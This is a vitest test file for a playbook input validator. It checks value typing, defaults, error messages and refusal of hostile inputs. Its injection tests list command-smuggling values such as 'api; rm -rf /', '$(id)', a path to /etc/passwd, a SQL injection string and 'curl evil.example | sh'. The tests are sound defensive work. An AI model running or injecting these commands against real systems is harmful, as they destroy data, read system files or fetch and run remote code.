// Inputs are checked before any step runs; hostile values are refused where the type allows
// a check, and otherwise come back unchanged, to be used as one inert argv element.
import { describe, expect, it } from 'vitest';
import { validateInputs, type LiveResolver } from '../../src/playbooks/input-values';
import type { PlaybookInput } from '../../src/playbooks/playbook-types';

const live: LiveResolver = {
  resolve(type, value) {
    if (type === 'container' && (value === 'shop-api-1' || value === 'local/container/shop/shop-api-1')) return 'local/container/shop/shop-api-1';
    if (type === 'service' && value === 'shop/api') return 'local/compose-service/shop/api';
    if (type === 'engine' && value === 'local') return 'local';
    return undefined;
  },
};

const input = (name: string, type: PlaybookInput['type'], extra: Partial<PlaybookInput> = {}): PlaybookInput => ({ name, type, required: extra.default === undefined, ...extra });

const INPUTS: PlaybookInput[] = [
  input('container', 'container'),
  input('count', 'number', { default: 3 }),
  input('force', 'boolean', { default: false }),
  input('since', 'duration', { default: '1h' }),
  input('mode', 'choice', { allowed: ['quick', 'full'], default: 'quick' }),
  input('tag', 'string', { pattern: '[a-z0-9.-]+', default: 'latest' }),
  input('note', 'string', { default: '' }),
];

describe('validateInputs', () => {
  it('types every value and applies defaults', () => {
    expect(validateInputs(INPUTS, { container: 'shop-api-1', count: '5', force: 'yes', since: '90s', mode: 'full' }, live)).toEqual({
      values: { container: 'local/container/shop/shop-api-1', count: 5, force: true, since: 90_000, mode: 'full', tag: 'latest', note: '' },
    });
    expect(validateInputs(INPUTS, { container: 'local/container/shop/shop-api-1', since: '1500' }, live)).toEqual({
      values: { container: 'local/container/shop/shop-api-1', count: 3, force: false, since: 1500, mode: 'quick', tag: 'latest', note: '' },
    });
  });

  it('reports every problem at once, by input name', () => {
    const result = validateInputs(INPUTS, { count: 'many', force: 'maybe', since: '10 minutes', mode: 'slow', tag: 'v1 beta', extra: 'x' }, live);
    expect(result).toEqual({
      errors: {
        container: 'required: give a value',
        count: 'expected a number, got "many"',
        force: 'expected true or false, got "maybe"',
        since: expect.stringContaining('invalid duration "10 minutes"'),
        mode: 'expected one of: quick, full; got "slow"',
        tag: 'must match [a-z0-9.-]+, got "v1 beta"',
        extra: 'unknown input (inputs: container, count, force, since, mode, tag, note)',
      },
    });
  });

  it('refuses a live object that is not in the live state', () => {
    expect(validateInputs([input('container', 'container')], { container: 'shop-ghost-1' }, live)).toEqual({
      errors: { container: 'no container "shop-ghost-1" in the live state' },
    });
    expect(validateInputs([input('engine', 'engine'), input('service', 'service')], { engine: 'local', service: 'shop/api' }, live)).toEqual({
      values: { engine: 'local', service: 'local/compose-service/shop/api' },
    });
  });

  describe('injection', () => {
    const HOSTILE = ['api; rm -rf /', '$(id)', '`id`', '../../etc/passwd', 'a && curl evil.example | sh', "x' OR '1'='1", '--help', '{{ inputs.tag }}'];

    it.each(HOSTILE)('%s is not a live container', (value) => {
      expect(validateInputs([input('container', 'container')], { container: value }, live)).toEqual({ errors: { container: `no container ${JSON.stringify(value)} in the live state` } });
    });

    it.each(HOSTILE)('%s does not match a name pattern', (value) => {
      const result = validateInputs([input('tag', 'string', { pattern: '^[a-z0-9][a-z0-9.-]*$' })], { tag: value }, live);
      expect(result).toEqual({ errors: { tag: expect.stringContaining('must match') } });
    });

    it('a pattern the author forgot to anchor still has to match the whole value', () => {
      expect(validateInputs([input('tag', 'string', { pattern: '[a-z]+' })], { tag: 'api; rm -rf /' }, live)).toEqual({ errors: { tag: expect.stringContaining('must match') } });
    });

    it.each(HOSTILE)('%s is free text as given, unchanged, when the type has nothing to check', (value) => {
      expect(validateInputs([input('message', 'string')], { message: value }, live)).toEqual({ values: { message: value } });
    });

    it.each(['line one\nline two', 'carriage\rreturn', 'escape \u001b[2J', 'nul\u0000byte', 'tab\there', 'next\u0085line', 'separator\u2028here', 'del\u007f'])(
      'a control character or line break is refused whatever the type: %j',
      (value) => {
        for (const candidate of [input('message', 'string'), input('container', 'container'), input('count', 'number')]) {
          const result = validateInputs([candidate], { [candidate.name]: value }, live);
          expect(result).toEqual({ errors: { [candidate.name]: 'must not contain control characters or line breaks' } });
        }
      },
    );

    it('does not ask the live state about a value with a newline', () => {
      const asked: string[] = [];
      const spy: LiveResolver = { resolve: (_type, value) => (asked.push(value), undefined) };
      validateInputs([input('container', 'container')], { container: 'shop-api-1\n; reboot' }, spy);
      expect(asked).toEqual([]);
    });
  });
});
